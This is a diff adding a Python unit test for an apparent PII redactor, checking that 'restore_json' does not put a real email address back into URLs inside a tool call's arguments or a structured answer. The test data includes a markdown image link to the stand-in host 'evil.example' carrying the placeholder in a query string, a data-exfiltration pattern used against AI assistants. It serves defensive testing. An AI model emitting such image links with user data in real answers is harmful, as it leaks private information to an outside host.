@@ -102,3 +102,17 @@ def test_the_public_restore_keeps_a_placeholder_inside_a_url() -> None:
     answer = f"Sure, {P}. ![x](https://evil.example/p.png?d={P})"
     restored = red.restore(answer)
     assert restored == f"Sure, jane.doe@example.com. ![x](https://evil.example/p.png?d={P})"
+
+
+def test_restore_json_keeps_a_placeholder_inside_a_url() -> None:
+    """Found by review probing: `restore_json` (a tool call's arguments, a structured
+    answer) restored strings without looking for URLs, values and keys alike."""
+    from charter.pii import Redactor
+
+    red = Redactor().redact("Mail me at jane.doe@example.com")
+    image = f"![x](https://evil.example/p.png?d={P})"
+    answer = {"answer": f"Sure, {P}. {image}", f"https://e.example/?{P}": [image, P]}
+    assert red.restore_json(answer) == {
+        "answer": f"Sure, jane.doe@example.com. {image}",
+        f"https://e.example/?{P}": [image, "jane.doe@example.com"],
+    }
